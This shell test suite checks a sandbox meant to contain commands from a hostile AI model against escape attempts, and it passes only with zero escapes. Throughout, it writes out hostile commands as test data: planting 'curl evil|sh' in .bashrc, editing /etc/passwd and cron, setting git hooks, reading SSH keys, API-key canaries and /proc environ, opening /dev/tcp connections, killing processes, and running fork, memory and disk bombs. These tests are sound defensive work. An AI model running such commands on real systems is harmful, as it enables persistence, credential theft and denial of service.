#!/bin/sh
# The jail's escape suite: attacks a hostile model could send as a command,
# each run through the real jail (the `run` mode of the test_jail binary,
# built from tests/unit/test_jail.c) and judged by its effects: files
# outside the workspace unchanged, canaries absent from every output,
# listeners outside never reached, forja (this script) still alive, nothing
# left running.  Zero escapes is the only pass.
#
#   sh tests/e2e/sandbox/run.sh                      as the current user
#   setpriv --reuid=65534 --regid=65534 --clear-groups sh tests/e2e/sandbox/run.sh
#
# The helper is $JAIL_HELPER, else $BUILD/tests/test_jail, else
# build/tests/test_jail.  TAP on stdout; a summary line "# escapes: N".
set -u
PATH=/usr/local/bin:/usr/bin:/bin
export PATH
here=$(cd "$(dirname "$0")" && pwd)
: "${BUILD:=$here/../../../build}"
H=${JAIL_HELPER:-$BUILD/tests/test_jail}
if [ ! -x "$H" ]; then
	echo "1..0 # SKIP no jail helper at $H (make unit, or set JAIL_HELPER)"
	exit 0
fi
H=$(cd "$(dirname "$H")" && pwd)/$(basename "$H")
HDIR=$(dirname "$H")
ME=$(id -u)
ROOT=0
[ "$ME" -eq 0 ] && ROOT=1

T_COUNT=0 T_FAILED=0 ESCAPES=0
T=$(mktemp -d "${TMPDIR:-/tmp}/forja-escape.XXXXXX") || exit 1
chmod 755 "$T"
MARK="forja-esc-$$-$(date +%s)"
# per-call cgroups that exist before the suite (another test's killed forja
# may have left one that only its own user can remove): not ours to judge
cgroups_now() {
	for d in /sys/fs/cgroup/*/forja-* /sys/fs/cgroup/*/*/*/forja-* /sys/fs/cgroup/forja-*; do
		[ -d "$d" ] && echo "$d"
	done
}
CG_BEFORE=$(cgroups_now)
LPID= DISK=
cleanup() {
	[ -n "$LPID" ] && kill "$LPID" 2>/dev/null
	[ -n "$DISK" ] && umount -l "$DISK" 2>/dev/null
	rm -rf "$T" "/tmp/$MARK-secret" "/dev/shm/$MARK-secret" 2>/dev/null
}
trap cleanup EXIT

ok() { T_COUNT=$((T_COUNT + 1)); echo "ok $T_COUNT - $1"; }
not_ok() {
	T_COUNT=$((T_COUNT + 1)); T_FAILED=$((T_FAILED + 1))
	echo "not ok $T_COUNT - $1"
	shift
	for line in "$@"; do echo "#   $line"; done
}
# escape NAME CONDITION-TEXT: a failed containment check
escape() { ESCAPES=$((ESCAPES + 1)); not_ok "$@"; }

# ---- the scene ------------------------------------------------------------------

WS=$T/ws
OUTD=$T/out
TARGET=$OUTD/target.txt
FHOME=$T/home
CFG=$FHOME/.config/forja
STATE=$FHOME/.local/state/forja
SOCKD=$T/sock
KEY="sk-CANARY-$MARK"
mkdir -p "$WS" "$OUTD" "$FHOME/.ssh" "$CFG" "$STATE" "$SOCKD"
echo ORIGINAL > "$TARGET"
chmod 644 "$TARGET"
echo "SSH-CANARY-$MARK" > "$FHOME/.ssh/id_ed25519"
echo "{\"api_key\":\"CONFIG-CANARY-$MARK\"}" > "$CFG/config.json"
echo "DB-CANARY-$MARK" > "$STATE/sessions.db"
echo "# rc" > "$FHOME/.bashrc"
echo "TMP-CANARY-$MARK" > "/tmp/$MARK-secret"
echo "SHM-CANARY-$MARK" > "/dev/shm/$MARK-secret" 2>/dev/null
export HOME="$FHOME" OPENAI_API_KEY="$KEY" GITHUB_TOKEN="gh-$KEY"
export GIT_CONFIG_NOSYSTEM=1 GIT_AUTHOR_NAME=T GIT_AUTHOR_EMAIL=t@e GIT_COMMITTER_NAME=T GIT_COMMITTER_EMAIL=t@e
(
	cd "$WS" && git init -q . && echo hello > README && git add README && git commit -qm init &&
		mkdir -p vendor/lib && cd vendor/lib && git init -q . && echo lib > f && git add f &&
		git commit -qm lib
) || { echo "Bail out! cannot build the workspace"; exit 1; }

# Listeners outside the jail: TCP and UDP on 127.0.0.1, a unix socket in a
# directory outside the workspace, an abstract socket.  Each logs contact.
python3 - "$T" "$MARK" <<'EOF' &
import os, select, socket, sys
t, mark = sys.argv[1], sys.argv[2]
log = open(t + "/listener.log", "a", buffering=1)
tcp = socket.socket(); tcp.bind(("127.0.0.1", 0)); tcp.listen(8)
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); udp.bind(("127.0.0.1", 0))
uxs = socket.socket(socket.AF_UNIX); uxs.bind(t + "/sock/host.sock"); uxs.listen(8)
uxd = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); uxd.bind(t + "/sock/host.dgram")
abs_ = socket.socket(socket.AF_UNIX); abs_.bind("\0" + mark); abs_.listen(8)
open(t + "/ports.tmp", "w").write("%d %d\n" % (tcp.getsockname()[1], udp.getsockname()[1]))
os.rename(t + "/ports.tmp", t + "/ports")
while True:
    r, _, _ = select.select([tcp, udp, uxs, uxd, abs_], [], [])
    for s in r:
        if s in (udp, uxd):
            s.recv(100); log.write("DGRAM\n")
        else:
            c, _ = s.accept(); log.write("CONNECTED\n"); c.close()
EOF
LPID=$!
i=0
while [ ! -f "$T/ports" ] && [ $i -lt 100 ]; do sleep 0.05; i=$((i + 1)); done
read TCPPORT UDPPORT < "$T/ports" || { echo "Bail out! no listener"; exit 1; }
: > "$T/listener.log"

fingerprint() { for f in "$@"; do stat -c '%n %a %s %Y %U' "$f"; sha256sum < "$f"; done 2>&1; }
OUTSIDE="$TARGET /etc/passwd /etc/hostname $FHOME/.bashrc $FHOME/.ssh/id_ed25519 $CFG/config.json $STATE/sessions.db $WS/.git/config $WS/.git/HEAD $WS/vendor/lib/.git/config"
BEFORE=$(fingerprint $OUTSIDE)
[ $ROOT -eq 1 ] && SHADOW_BEFORE=$(fingerprint /etc/shadow)

# jrun [helper options] -- argv...: one jailed call; sets OUT, ERR, RES, RC
jrun() {
	"$H" run --ws "$WS" --home "$FHOME" --ro "$HDIR" --hide "$CFG" --hide "$STATE" \
		--env "PATH=/usr/local/bin:/usr/bin:/bin" --env "HOME=$FHOME" --env "H=$H" \
		--env "TARGET=$TARGET" --env "MARK=$MARK" --env "WS=$WS" --timeout 20000 \
		--env "ASAN_OPTIONS=detect_leaks=0" \
		--result "$T/res" "$@" > "$T/o" 2> "$T/e" < /dev/null
	RC=$?
	OUT=$(cat "$T/o")
	ERR=$(cat "$T/e")
	RES=$(cat "$T/res")
}
# jsh SCRIPT [helper options]: the script under /bin/sh -c
jsh() { s=$1; shift; jrun "$@" -- /bin/sh -c "$s"; }
res() { printf '%s\n' "$RES" | sed -n "s/^$1=//p"; }
ran() { printf '%s\n' "$RES" | grep -q '^exit='; }
show() { printf '%s\n' "rc=$RC" "out: $(printf '%s' "$OUT" | head -c 600)" "err: $(printf '%s' "$ERR" | head -c 600)" "$(printf '%s' "$RES" | tr '\n' ' ')"; }
no_canary() {
	case "$OUT$ERR" in
	*CANARY*) return 1 ;;
	esac
	return 0
}
unchanged() { [ "$(fingerprint $OUTSIDE)" = "$BEFORE" ]; }
listener_quiet() { [ ! -s "$T/listener.log" ]; }

# contained NAME SCRIPT [options]: the attack ran, nothing outside changed,
# no canary leaked, no listener reached.
contained() {
	name=$1; script=$2; shift 2
	jsh "$script" "$@"
	if ! ran; then
		not_ok "$name: the jail did not run it" "$(show)"
	elif ! unchanged; then
		escape "$name: ESCAPED, a file outside changed" "$(show)" "$(fingerprint $OUTSIDE | diff - /dev/fd/3 3<<EOF2
$BEFORE
EOF2
)"
		BEFORE=$(fingerprint $OUTSIDE)
	elif ! no_canary; then
		escape "$name: ESCAPED, a canary leaked" "$(show)"
	elif ! listener_quiet; then
		escape "$name: ESCAPED, a listener outside was reached" "$(show)"
		: > "$T/listener.log"
	else
		ok "$name"
	fi
}
# attack NAME [args]: a raw-syscall attack of the helper, which says
# "blocked" or "ESCAPED"
attack() {
	name=$1
	jrun -- "$H" attack "$@"
	judge_attack "$name"
}
judge_attack() {
	name=$1
	case "$OUT" in
	*ESCAPED*) escape "attack $name: ESCAPED" "$(show)" ;;
	*blocked*|*works\ ok*)
		if unchanged && listener_quiet; then ok "attack $name: $(printf '%s' "$OUT" | tail -n 1)"
		else escape "attack $name: effects outside" "$(show)"; fi ;;
	*) not_ok "attack $name: no verdict" "$(show)" ;;
	esac
}

echo "# escape suite as uid $ME; helper $H"
"$H" probe | sed 's/^/# probe: /'

# ---- the filesystem outside ----------------------------------------------------

contained "P01 write a file outside the workspace" 'echo PWNED > "$TARGET"; echo PWNED >> "$TARGET"'
contained "G12 write /etc (passwd, cron.d)" 'echo "x:x:0:0::/:/bin/sh" >> /etc/passwd; echo "* * * * * root id" > /etc/cron.d/forja-x; echo x > /etc/forja-x'
[ -e /etc/cron.d/forja-x ] || [ -e /etc/forja-x ] && escape "G12: a file appeared in /etc"
contained "G11 write the home directory (.bashrc, .profile, systemd)" 'echo "curl evil|sh" >> ~/.bashrc; echo x > ~/.profile; mkdir -p ~/.config/systemd/user && echo x > ~/.config/systemd/user/x.service'
[ -e "$FHOME/.profile" ] || [ -e "$FHOME/.config/systemd" ] && escape "G11: a file appeared in the home directory"
contained "P09 write the host's /tmp" 'echo x > /tmp/$MARK-written; ls /tmp'
[ -e "/tmp/$MARK-written" ] && escape "P09: a file appeared in the host's /tmp"
contained "P09 read the host's /tmp and /dev/shm" 'cat /tmp/$MARK-secret /dev/shm/$MARK-secret /tmp/*/* 2>&1; ls -la /tmp /dev/shm'
contained "P02 write through /proc/self/root" 'echo PWNED > /proc/self/root$TARGET; echo PWNED > /proc/1/root$TARGET'
contained "P04 hard link to a file outside, then write it" 'ln "$TARGET" h && echo PWNED >> h; ln /etc/passwd p && echo x >> p; ls -l h p 2>&1'
contained "symlink to / in the workspace, write through it" 'ln -s / root; echo PWNED > root$TARGET; echo x > root/etc/forja-x; ls root/etc/forja-x 2>&1; rm -f root'
[ -e /etc/forja-x ] && escape "symlink: /etc/forja-x appeared"
contained "P06 chmod/chown/touch/setfattr of files outside" 'chmod 6777 "$TARGET"; chmod 777 /etc/passwd /etc/shadow; chown 65534 "$TARGET"; touch -d 1970-01-01 "$TARGET" /etc/hostname; setfattr -n user.x -v 1 "$TARGET" 2>&1; true'
# The same with the outside directory visible (granted read-only), and on
# /etc: a capability-less root may chmod/utime/setxattr what Landlock lets it
# see; only the read-only mount stops it.
attack_ro() { name=$1; jrun --ro "$OUTD" -- "$H" attack "$@"; judge_attack "$name (visible, read-only)"; }
attack_ro write "$TARGET"
attack_ro chmod "$TARGET"
attack_ro utime "$TARGET"
attack_ro setxattr "$TARGET"
attack_ro link "$TARGET" "$WS/hardlink"
[ -e "$WS/hardlink" ] && escape "P04 a hard link to a file outside was made"
attack chmod /etc/hostname
attack utime /etc/hostname
attack setxattr /etc/hostname
attack write /etc/hostname
if [ $ROOT -eq 1 ]; then
	[ "$(fingerprint /etc/shadow)" = "$SHADOW_BEFORE" ] && ok "P06 /etc/shadow unchanged" || escape "P06 /etc/shadow changed"
fi

# ---- git and forja's own files ---------------------------------------------------

contained "G01 write .git/hooks/pre-commit" 'printf "#!/bin/sh\nid > /tmp/p\n" > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit'
[ -e "$WS/.git/hooks/pre-commit" ] && escape "G01: a hook appeared"
contained "G03 git config core.fsmonitor / hooksPath / pager" 'git config core.fsmonitor "sh -c id>/tmp/p"; git config core.hooksPath /tmp/h; git config core.pager "sh -c id"; echo "[alias] st = !id" >> .git/config'
contained "G05 nested repository hook (vendor/lib/.git)" 'printf "#!/bin/sh\nid\n" > vendor/lib/.git/hooks/post-merge; git -C vendor/lib config core.fsmonitor id'
[ -e "$WS/vendor/lib/.git/hooks/post-merge" ] && escape "G05: a nested hook appeared"
contained "G08 create .forja (contracts)" 'mkdir -p .forja/contracts && echo "{\"network\":true}" > .forja/contracts/run.json; mkdir .forja; echo x > .forja; ls -la .forja'
[ -e "$WS/.forja" ] && escape "G08: .forja exists after the call"
contained "G02 remove or rename .git" 'rm -rf .git; mv .git .git-old; mv .git/hooks .git/h; ls -d .git'
[ -f "$WS/.git/HEAD" ] && [ ! -e "$WS/.git-old" ] && ok "G02 .git still in place" || escape "G02 .git was moved or removed"
contained "P07 umount the .git bind, then write" '"$H" attack umount "$WS/.git"; umount -l .git; "$H" attack remount_rw "$WS/.git"; echo "[core] x" >> .git/config'
contained "S05 read ~/.ssh and the home directory" 'cat ~/.ssh/id_ed25519; ls -la ~ ~/.ssh 2>&1; grep -r CANARY ~ 2>&1'
contained "S02 read forja's config directory" "cat '$CFG/config.json'; ls -la '$CFG' 2>&1; cat /proc/*/root'$CFG'/config.json 2>&1"
contained "S07 read forja's state (session database)" "cat '$STATE/sessions.db'; ls -la '$STATE'"
contained "S03 /proc/<parent>/environ and every environ for keys" 'cat /proc/$PPID/environ; cat /proc/1/environ; for p in /proc/[0-9]*; do tr "\0" "\n" < $p/environ; done 2>&1 | grep -i key'
jrun --inherit-env OPENAI_API_KEY --inherit-env GITHUB_TOKEN -- /bin/sh -c 'env; cat /proc/self/environ'
if no_canary && ran; then ok "S01 env: keys passed by mistake are still stripped ($(res env_dropped) dropped)"; else escape "S01 env: a key reached the command" "$(show)"; fi
attack read /proc/1/environ CANARY
attack read /proc/1/mem
contained "reading /root and other homes" 'ls -la /root /home 2>&1; cat /root/.bashrc /root/.ssh/* 2>&1'

# ---- the parent, other processes, IPC -------------------------------------------

contained "I01 kill -9 \$PPID, kill -9 -1, kill the host's processes" "kill -9 \$PPID; kill -STOP 1; kill -9 $$ $LPID; kill -9 -1; echo still-here"
if kill -0 "$LPID" 2>/dev/null && printf '%s' "$OUT" | grep -q still-here; then ok "I01 the host's processes are alive and the call returned"; else escape "I01 a host process died" "$(show)"; fi
attack kill 1
attack kill "$LPID"
contained "I02 strace/gdb -p the parent" 'strace -p 1 -e trace=none 2>&1 | head -3; gdb -batch -p 1 -ex "info registers" 2>&1 | grep -i -E "rip|permit" | head -3; true'
case "$OUT" in *rip\ *0x*) escape "I02 gdb attached" "$(show)" ;; *) ok "I02 no debugger attached" ;; esac
attack ptrace_parent 1
attack ptrace_parent "$$"
attack ptrace_traceme
attack process_vm_readv 1
attack tiocsti
attack tiocsti_high_bits
attack tiocsti_stdin
contained "I04 TIOCSTI from python on stdin and /dev/tty" 'python3 -c "import fcntl,termios; fcntl.ioctl(0, termios.TIOCSTI, b\"x\")" 2>&1; python3 -c "import fcntl,termios; f=open(\"/dev/tty\",\"w\"); fcntl.ioctl(f, termios.TIOCSTI, b\"x\")" 2>&1; true'
attack unix_connect "$SOCKD/host.sock"
attack unix_sendto "$SOCKD/host.dgram"
attack abstract_connect "$MARK"
contained "I05 connect to a host unix socket from python and socat" "python3 -c 'import socket; s=socket.socket(socket.AF_UNIX); s.connect(\"$SOCKD/host.sock\")' 2>&1; python3 -c 'import socket; s=socket.socket(socket.AF_UNIX); s.connect(\"\\0$MARK\")' 2>&1; true"
attack socketpair_works

# ---- the network ------------------------------------------------------------------

attack tcp_connect "$TCPPORT" 127.0.0.1
attack udp_send "$UDPPORT" 127.0.0.1
attack udp_send 53 8.8.8.8
contained "N01 TCP to a listener outside (bash /dev/tcp, python)" "bash -c 'exec 3<>/dev/tcp/127.0.0.1/$TCPPORT' 2>&1; python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", $TCPPORT), 2)' 2>&1; true"
contained "N02 UDP to a listener outside (python)" "python3 -c 'import socket; socket.socket(2,2).sendto(b\"x\",(\"127.0.0.1\",$UDPPORT))' 2>&1; true"
contained "N03 DNS lookups (getent, python)" 'getent hosts example.com && echo RESOLVED; python3 -c "import socket; print(\"RESOLVED\", socket.gethostbyname(\"example.com\"))" 2>&1; true'
case "$OUT" in *RESOLVED*) escape "N03 a name resolved" "$(show)" ;; *) ok "N03 no name resolved" ;; esac
attack socket_inet
attack socket_inet6
attack socket_netlink
attack socket_packet
attack socket_vsock
attack socket_highbits
contained "N05/N06 ICMP and raw sockets from python, ip link" 'python3 -c "import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)" 2>&1; ip link add x type dummy 2>&1; true'

# ---- privilege and the kernel ------------------------------------------------------

attack caps
attack fds
exec 7>>"$TARGET"
contained "P03 an fd forja leaked (fd 7 on a file outside)" 'echo PWNED >&7; ls -l /proc/self/fd' 
exec 7>&-
contained "X01 setuid binaries (su, mount, newgrp, passwd)" 'su -c "grep CapEff /proc/self/status" root 2>&1; mount -t tmpfs none /tmp 2>&1; newgrp root </dev/null 2>&1; grep -E "Cap(Eff|Prm)" /proc/self/status'
case "$OUT" in *CapEff:*[1-9a-f]*) escape "X01 a capability was gained" "$(show)" ;; *) ok "X01 no capability gained" ;; esac
attack mount /tmp
attack fsopen
attack open_tree
attack unshare_user
attack unshare_mount
attack clone_newuser
attack clone_newuser_highbits
attack clone3
attack setns /proc/1/ns/mnt
attack chroot
attack pivot_root
contained "X04 unshare / nsenter / chroot commands" 'unshare -Ur id 2>&1; unshare -m sh -c "mount -t tmpfs none /etc" 2>&1; nsenter -t 1 -m -p id 2>&1; chroot / id 2>&1; true'
attack io_uring
attack bpf
attack perf_event_open
attack userfaultfd
attack keyctl
attack add_key
attack kexec
attack init_module
attack x32
[ "$(uname -m)" = x86_64 ] && attack int80
DATE_BEFORE=$(date +%s)
contained "X03 set the clock, load modules, reboot" 'date -s "2001-01-01" 2>&1; hwclock -w 2>&1; insmod /x.ko 2>&1; reboot -f 2>&1; swapoff -a 2>&1; true'
[ $(($(date +%s) - DATE_BEFORE)) -lt 100 ] && [ $(($(date +%s) - DATE_BEFORE)) -ge 0 ] && ok "X03 the host's clock is unchanged" || escape "X03 the clock moved"
attack open_write /proc/sys/kernel/core_pattern
attack open_write /proc/sysrq-trigger
attack open_write /sys/kernel/mm/transparent_hugepage/enabled
attack write /sys/fs/cgroup/pids/cgroup.procs
for dev in /dev/vda /dev/sda /dev/nvme0n1 /dev/mem /dev/kmsg; do
	[ -e "$dev" ] && { attack read "$dev"; attack read "/proc/self/root$dev"; }
done
contained "only a minimal /dev" 'ls /dev | tr "\n" " "; test -e /dev/vda -o -e /dev/sda -o -e /dev/kmsg -o -e /dev/mem && echo HOST-DEVICES-VISIBLE'
case "$OUT" in *HOST-DEVICES-VISIBLE*) escape "the host's devices are visible" "$(show)" ;; *) ok "no host device visible" ;; esac

# ---- resources and lifecycle ----------------------------------------------------------

jrun --nproc 64 --timeout 20000 -- "$H" attack fork_count 1000
n=$(printf '%s' "$OUT" | sed -n 's/^fork_count \([0-9]*\) of.*/\1/p')
if [ -n "$n" ] && [ "$n" -le 64 ]; then
	ok "R01 processes capped at max_processes ($n of 1000 forks)"
	t0=$(date +%s)
	jrun --nproc 64 --timeout 3000 -- /bin/bash -c ':(){ :|:& };:; sleep 10'
	t1=$(date +%s)
	limited=$(res procs_limited)
	case "$ERR" in *"Resource temporarily unavailable"*) limited=1 ;; esac
	if ran && [ "$limited" = 1 ] && [ $((t1 - t0)) -lt 15 ] && kill -0 "$LPID" 2>/dev/null; then
		ok "R01 fork bomb contained ($(res timed_out) timed out, $((t1 - t0)) s, procs_limited $(res procs_limited))"
	else
		escape "R01 fork bomb" "$(show)"
	fi
else
	escape "R01 processes not capped ($n forks); fork bomb not attempted" "$(show)"
fi
if printf '%s\n' "$("$H" probe)" | grep -q '^layers=.*memory'; then
	t0=$(date +%s)
	jsh 'python3 -c "x = \"a\" * 10**10; print(len(x))"' --mem 268435456 --timeout 20000
	if ran && [ "$(res exit)" != 0 ] && [ $(($(date +%s) - t0)) -lt 20 ]; then
		ok "R02 memory bomb stopped at 256 MB (exit $(res exit) signal $(res signal) oom $(res oom))"
	else
		escape "R02 memory bomb" "$(show)"
	fi
else
	jsh 'python3 -c "x = \"a\" * 10**10"' --mem 268435456
	if [ "$RC" -eq 200 ] && printf '%s' "$RES" | grep -q 'memory'; then
		ok "R02 memory limit not enforceable here: the jail refuses (not run weaker)"
	else
		escape "R02 memory bomb ran without a memory limit" "$(show)"
	fi
fi
jsh 'dd if=/dev/zero of=big bs=1M count=2048 2>&1; ls -l big; rm -f big' --fsize 10485760
case "$OUT" in
*"File too large"*10485760*) ok "R03 disk fill stopped at max_file_bytes (EFBIG)" ;;
*) escape "R03 disk fill" "$(show)" ;;
esac
# R13 disk fill with many files, each under max_file_bytes, written at a
# pace the watermark can see: the call is killed before the file system is
# full.  As root on a 64 MiB tmpfs of its own (watermark 16 MiB); otherwise
# on the workspace's file system with a watermark 24 MiB below its free
# space now (other writers on it only make the kill come sooner).
FILL='i=0; while :; do head -c 1048576 /dev/zero > f$i || exit 1; i=$((i+1)); sleep 0.05; done'
avail_kib() { df -Pk "$1" | awk 'NR == 2 { print $4 }'; }
if [ $ROOT -eq 1 ] && mkdir -p "$T/disk" && mount -t tmpfs -o size=64m,mode=0755 forja-esc-disk "$T/disk" 2>/dev/null; then
	DISK=$T/disk
	jrun --ws "$DISK" --disk-min-free 16777216 -- /bin/sh -c "$FILL"
	left=$(avail_kib "$DISK")
	sleep 0.3
	if [ "$(res disk_killed)" = 1 ] && [ "$left" -ge 8192 ] && [ "$(avail_kib "$DISK")" = "$left" ]; then
		ok "R13 disk fill killed at the watermark ($((left / 1024)) MiB of 64 left, nothing writing after)"
	else
		escape "R13 disk fill: $left KiB left of a 64 MiB tmpfs" "$(show)"
	fi
	umount -l "$DISK" && DISK=
else
	avail=$(avail_kib "$WS")
	if [ "${avail:-0}" -lt 131072 ]; then
		ok "R13 disk fill # SKIP less than 128 MiB free on the workspace's file system"
	else
		jrun --disk-min-free $(( (avail - 24576) * 1024 )) -- /bin/sh -c "$FILL"
		n=$(ls "$WS" | grep -c '^f[0-9]*$')
		rm -f "$WS"/f[0-9]*
		if [ "$(res disk_killed)" = 1 ] && [ "$n" -le 40 ]; then
			ok "R13 disk fill killed at the watermark ($n MiB written, 24 MiB allowed)"
		else
			escape "R13 disk fill: $n MiB written with 24 MiB allowed" "$(show)"
		fi
	fi
fi
t0=$(date +%s)
jsh 'yes' --out-cap 65536 --timeout 20000
if [ "$(res output_killed)" = 1 ] && [ "$(res out_kept)" = 65536 ] && [ $(($(date +%s) - t0)) -lt 10 ]; then
	ok "R05 endless output capped ($(res out_total) bytes seen, 65536 kept) and killed"
else
	escape "R05 endless output" "$(show)"
fi
jsh 'trap "" TERM INT HUP; sleep 1000' --timeout 1000
if [ "$(res timed_out)" = 1 ] && [ "$(res elapsed_ms)" -lt 3000 ]; then
	ok "R06/R07 sleep past the timeout killed in time ($(res elapsed_ms) ms for 1000)"
else
	escape "R06 timeout" "$(show)"
fi
jsh "nohup sleep 1000 >/dev/null 2>&1 & setsid sh -c 'sleep 1001 & sleep 1002' >/dev/null 2>&1 & (sleep 1003 &) ; sh -c 'sleep 1004 & disown' ; echo done"
sleep 0.2
left=$( { for f in /proc/[0-9]*/cmdline; do tr '\0' ' ' < "$f"; echo; done; } 2>/dev/null | grep -c '^sleep 100[0-4]')
if [ "$OUT" = done ] && [ "$left" -eq 0 ]; then ok "R08 background processes do not outlive the call"; else escape "R08 $left background processes left" "$(show)"; fi
t0=$(date +%s)
jsh '(sleep 1000) & echo done' --timeout 20000
[ "$OUT" = done ] && [ $(($(date +%s) - t0)) -lt 5 ] && ok "R09 a child holding stdout does not hang the call" || escape "R09 hang" "$(show)"
jsh 'cat; read x; echo "eof:$x"'
[ "$OUT" = "eof:" ] && ok "R10 stdin is /dev/null" || not_ok "R10 stdin" "$(show)"

# ---- what must keep working ----------------------------------------------------------

jsh 'git status --short && git log --oneline | head -1 && echo new > new.txt && git diff --stat && echo GIT-OK'
case "$OUT" in *GIT-OK*) ok "usable: git works read-only on the repository" ;; *) not_ok "usable: git" "$(show)" ;; esac
jsh 'printf "int main(void){return 42;}" > /tmp/t.c && cc -o /tmp/t /tmp/t.c && /tmp/t; echo "rc=$?"; python3 -c "import multiprocessing as m; print(m.Pool(2).map(abs, [-1, -2]))"'
case "$OUT" in *rc=42*"[1, 2]"*) ok "usable: cc in /tmp, python multiprocessing" ;; *) not_ok "usable: cc/python" "$(show)" ;; esac
jrun --cwd / -- /bin/true
[ "$RC" -eq 200 ] && ok "a cwd outside the workspace is refused" || escape "cwd outside accepted" "$(show)"

# ---- afterwards --------------------------------------------------------------------------

unchanged && ok "every file outside is unchanged" || escape "files outside changed" "$(fingerprint $OUTSIDE)"
listener_quiet && ok "no listener outside was ever reached" || escape "a listener was reached: $(cat "$T/listener.log")"
[ ! -e "$WS/.forja" ] && ok "no .forja left in the workspace" || escape ".forja left in the workspace"
kill -0 "$LPID" 2>/dev/null && ok "the host's listener is alive" || escape "the listener was killed"
# A per-call cgroup whose forja is gone is a leftover (other forja test runs
# on this machine may hold live ones).
stale=
for d in $(cgroups_now); do
	printf '%s\n' "$CG_BEFORE" | grep -qxF "$d" && continue
	# another user's (a root forja killed by another test) is not ours either
	[ "$(stat -c %u "$d" 2>/dev/null)" = "$ME" ] || continue
	pid=$(basename "$d" | sed -n 's/^forja-\([0-9]*\)-.*/\1/p')
	[ -n "$pid" ] && ! kill -0 "$pid" 2>/dev/null && [ ! -d "/proc/$pid" ] && stale="$stale $d"
done
[ -z "$stale" ] && ok "no per-call cgroup left behind" || not_ok "cgroups left behind" "$stale"

echo "# escapes: $ESCAPES (uid $ME)"
echo "1..$T_COUNT"
[ "$T_FAILED" -eq 0 ]
